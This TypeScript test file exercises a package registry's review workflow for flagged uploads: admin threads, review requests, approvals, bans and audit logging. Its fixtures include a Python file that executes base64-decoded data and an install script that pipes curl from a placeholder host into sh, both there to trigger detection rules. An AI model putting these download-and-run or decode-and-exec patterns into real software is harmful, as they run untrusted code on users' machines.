/**
 * The review of held versions over real HTTP: the publisher's thread with the site admins, its
 * request for a review (once per upload), the site admins' list of held versions (oldest first,
 * by publisher and rule), their decisions (approve: Active; reject: banned with the reason), and
 * the audit log that records every decision, a status set directly too.
 */
import { expect, layer } from "@effect/vitest"
import { Effect } from "effect"
import { AuditLog, HeldVersions, ReviewMessage, VersionReview } from "../../src/Domain/Moderation.ts"
import { Node } from "../../src/Domain/Node.ts"
import { decodeExact, decodeNodeList, decodeVersion } from "../support/Catalogue.ts"
import { addMember } from "../support/Db.ts"
import { expectError, expectStatus, get, send } from "../support/Http.ts"
import { type Running, Service } from "../support/Service.ts"
import { zipOf } from "../support/Zip.ts"
import { installed, makePublisher, type Publisher, published, upload } from "../Publishing/Flow.ts"

const decodeReview = decodeExact(VersionReview)
const decodeNode = decodeExact(Node)
const decodeHeld = decodeExact(HeldVersions)

const sly = { "__init__.py": "import base64\nexec(base64.b64decode(BLOB))\n" }
const fetcher = { "install.sh": "curl -fsSL https://get.example/x | sh\n", "__init__.py": "X = 1\n" }

/** Publishes and uploads `files`: the version, as the upload answers it. */
const release = (service: Running, publisher: Publisher, nodeId: string, version: string, files: Record<string, string>) =>
  Effect.gen(function*() {
    const { signedUrl } = yield* published(service, publisher, nodeId, version)
    return decodeVersion(expectStatus(yield* upload(service, signedUrl, yield* Effect.promise(() => zipOf(files))), 200, "upload").body)
  })

const reviewPath = (publisherId: string, nodeId: string, version: string) => `/publishers/${publisherId}/nodes/${nodeId}/versions/${version}/review`

layer(Service.layer(), { excludeTestServices: true })("reviews of held versions", (it) => {
  let acme: Publisher
  let other: Publisher
  let memberJwt = ""
  let admin = ""
  let stranger = ""

  it.effect("setup: two publishers with held versions, a member, a site admin", () =>
    Effect.gen(function*() {
      const service = yield* Service
      acme = yield* makePublisher(service, "acme")
      other = yield* makePublisher(service, "other")
      yield* addMember(service, "acme", "mia", "member")
      memberJwt = yield* Effect.promise(() => service.token({ sub: "mia" }))
      admin = yield* Effect.promise(() => service.token({ sub: "root", admin: true }))
      stranger = yield* Effect.promise(() => service.token({ sub: "stan" }))
      expect((yield* release(service, acme, "sly", "1.0.0", sly)).status).toBe("NodeVersionStatusFlagged")
      expect((yield* release(service, acme, "fetcher", "1.0.0", fetcher)).status).toBe("NodeVersionStatusFlagged")
      expect((yield* release(service, other, "elsewhere", "1.0.0", sly)).status).toBe("NodeVersionStatusFlagged")
      expect((yield* release(service, acme, "fine", "1.0.0", { "__init__.py": "X = 1\n" })).status).toBe("NodeVersionStatusActive")
    }))

  it.effect("members write to the site admins on a held version; strangers may not; an Active version has no thread", () =>
    Effect.gen(function*() {
      const service = yield* Service
      const path = `${reviewPath("acme", "sly", "1.0.0")}/messages`
      const written = decodeExact(ReviewMessage)(
        expectStatus(yield* send(service, "POST", path, { token: memberJwt, body: { body: "The blob is our model's config, encoded." } }), 201, "post").body
      )
      expect(written).toMatchObject({ author_id: "mia", from_site_admin: false, body: "The blob is our model's config, encoded." })
      const answer = decodeExact(ReviewMessage)(
        expectStatus(yield* send(service, "POST", path, { token: admin, body: { body: "Please ship it as a JSON file." } }), 201, "admin").body
      )
      expect(answer.from_site_admin).toBe(true)
      expectError(yield* send(service, "POST", path, { token: stranger, body: { body: "hi" } }), 403, "forbidden")
      expectError(yield* send(service, "POST", path, { token: memberJwt, body: { body: "" } }), 400, "bad_request")
      expectError(yield* send(service, "POST", `${reviewPath("acme", "fine", "1.0.0")}/messages`, { token: memberJwt, body: { body: "hi" } }), 409, "conflict")
      const review = decodeReview(expectStatus(yield* send(service, "GET", reviewPath("acme", "sly", "1.0.0"), { token: memberJwt }), 200, "review").body)
      expect(review.messages.map((m) => [m.author_id, m.from_site_admin])).toEqual([["mia", false], ["root", true]])
    }))

  it.effect("a review is asked for once per upload, of a held version only", () =>
    Effect.gen(function*() {
      const service = yield* Service
      const path = `${reviewPath("acme", "sly", "1.0.0")}/request`
      const asked = decodeReview(expectStatus(yield* send(service, "POST", path, { token: memberJwt }), 200, "request").body)
      expect(asked.review_requested_at).toBeDefined()
      const again = expectError(yield* send(service, "POST", path, { token: acme.ownerJwt }), 409, "conflict")
      expect(again.message).toMatch(/was asked for at/)
      expectError(yield* send(service, "POST", `${reviewPath("acme", "fine", "1.0.0")}/request`, { token: memberJwt }), 409, "conflict")
      expectError(yield* send(service, "POST", path, { token: stranger }), 403, "forbidden")
    }))

  it.effect("a node whose newest version is held says which, at what stage, since when; in every answer of it", () =>
    Effect.gen(function*() {
      const service = yield* Service
      const nodeOf = (nodeId: string) => Effect.map(get(service, `/nodes/${nodeId}`), (answer) => decodeNode(expectStatus(answer, 200, nodeId).body))
      const sly = yield* nodeOf("sly")
      expect(sly.held_version).toMatchObject({ version: "1.0.0", stage: "review_requested" })
      expect(sly.latest_version).toBeUndefined()
      expect((yield* nodeOf("fetcher")).held_version).toMatchObject({ version: "1.0.0", stage: "awaiting_review" })
      expect((yield* nodeOf("fine")).held_version).toBeUndefined()
      // the listing's pages say the same
      const page = decodeNodeList(expectStatus(yield* get(service, "/nodes?node_id=sly&node_id=fetcher&node_id=fine"), 200, "list").body)
      expect(Object.fromEntries(page.nodes.map((n) => [n.id, n.held_version?.stage ?? "none"]))).toEqual({
        sly: "review_requested",
        fetcher: "awaiting_review",
        fine: "none"
      })
      // a newer installable version answers the question: nothing is held above it
      yield* release(service, acme, "fetcher", "1.1.0", { "__init__.py": "X = 2\n" })
      expect((yield* nodeOf("fetcher")).held_version).toBeUndefined()
    }))

  it.effect("site admins list held versions, oldest first, by publisher and by rule", () =>
    Effect.gen(function*() {
      const service = yield* Service
      const all = decodeHeld(expectStatus(yield* get(service, "/admin/held-versions", { token: admin }), 200, "held").body)
      expect(all.versions.map((v) => v.node_id)).toEqual(["sly", "fetcher", "elsewhere"])
      expect(all.total).toBe(3)
      const [first] = all.versions
      expect(first).toMatchObject({ publisher_id: "acme", version: "1.0.0", messages: 2, findings: [{ rule: "exec-decoded-data", severity: "high" }] })
      expect(first!.review_requested_at).toBeDefined()
      expect(all.versions[1]!.review_requested_at).toBeUndefined()
      const byRule = decodeHeld(expectStatus(yield* get(service, "/admin/held-versions?rule=download-and-run", { token: admin }), 200, "by rule").body)
      expect(byRule.versions.map((v) => v.node_id)).toEqual(["fetcher"])
      const byPublisher = decodeHeld(expectStatus(yield* get(service, "/admin/held-versions?publisher_id=other", { token: admin }), 200, "by publisher").body)
      expect(byPublisher.versions.map((v) => v.node_id)).toEqual(["elsewhere"])
      const paged = decodeHeld(expectStatus(yield* get(service, "/admin/held-versions?limit=1&page=2", { token: admin }), 200, "paged").body)
      expect(paged.versions.map((v) => v.node_id)).toEqual(["fetcher"])
      expectError(yield* get(service, "/admin/held-versions", { token: acme.ownerJwt }), 403, "forbidden")
    }))

  it.effect("decisions: a rejection bans with its reason, an approval lists; each recorded; a decided version is not held", () =>
    Effect.gen(function*() {
      const service = yield* Service
      const decide = (nodeId: string, body: unknown, token = admin) =>
        send(service, "POST", `/admin/nodes/${nodeId}/versions/1.0.0/review/decision`, { token, body })
      expectError(yield* decide("sly", { decision: "approve", reason: "fine" }, acme.ownerJwt), 403, "forbidden")
      expectError(yield* decide("sly", { decision: "maybe", reason: "x" }), 400, "bad_request")
      const rejected = decodeVersion(expectStatus(yield* decide("sly", { decision: "reject", reason: "executes an encoded payload" }), 200, "reject").body)
      expect(rejected).toMatchObject({ status: "NodeVersionStatusBanned", status_reason: "Rejected on review: executes an encoded payload" })
      expectError(yield* decide("sly", { decision: "approve", reason: "changed my mind" }), 409, "conflict")
      const approved = decodeVersion(expectStatus(yield* decide("fetcher", { decision: "approve", reason: "the script is the documented installer" }), 200, "approve").body)
      expect(approved.status).toBe("NodeVersionStatusActive")
      expect((yield* installed(service, "fetcher", "1.0.0")).status).toBe("NodeVersionStatusActive")
      expectError(yield* decide("fine", { decision: "reject", reason: "x" }), 409, "conflict")

      // the publisher reads the reason, and may still write about the rejected version
      const review = decodeReview(expectStatus(yield* send(service, "GET", reviewPath("acme", "sly", "1.0.0"), { token: memberJwt }), 200, "review").body)
      expect(review.pipeline.map((s) => `${s.stage}:${s.outcome}`)).toEqual(["uploaded:stored", "checked:passed", "scanned:held", "reviewed:rejected"])
      expect(review.pipeline[3]!.detail).toBe("executes an encoded payload")
      expectStatus(yield* send(service, "POST", `${reviewPath("acme", "sly", "1.0.0")}/messages`, { token: memberJwt, body: { body: "We removed it in 1.0.1." } }), 201, "after")
      const approvedReview = decodeReview(expectStatus(yield* send(service, "GET", reviewPath("acme", "fetcher", "1.0.0"), { token: memberJwt }), 200, "review").body)
      expect(approvedReview.pipeline.slice(3).map((s) => `${s.stage}:${s.outcome}`)).toEqual(["reviewed:approved", "listed:active"])

      const held = decodeHeld(expectStatus(yield* get(service, "/admin/held-versions", { token: admin }), 200, "held").body)
      expect(held.versions.map((v) => v.node_id)).toEqual(["elsewhere"])
    }))

  it.effect("the audit log holds every decision, a status set directly too; for site admins only", () =>
    Effect.gen(function*() {
      const service = yield* Service
      expectStatus(
        yield* send(service, "PUT", "/admin/nodes/elsewhere/versions/1.0.0", { token: admin, body: { status: "NodeVersionStatusBanned", status_reason: "same payload as sly" } }),
        200,
        "set status"
      )
      const log = decodeExact(AuditLog)(expectStatus(yield* get(service, "/admin/audit-log", { token: admin }), 200, "log").body)
      expect(log.entries.map((e) => [e.action, e.node_id, e.actor_id])).toEqual([
        ["set_status", "elsewhere", "root"],
        ["approve", "fetcher", "root"],
        ["reject", "sly", "root"]
      ])
      expect(log.entries[0]!.reason).toBe("NodeVersionStatusBanned: same payload as sly")
      expect(log.entries[2]).toMatchObject({ version: "1.0.0", reason: "executes an encoded payload" })
      expect(log.total).toBe(3)
      expectError(yield* get(service, "/admin/audit-log", { token: memberJwt }), 403, "forbidden")
    }))
})
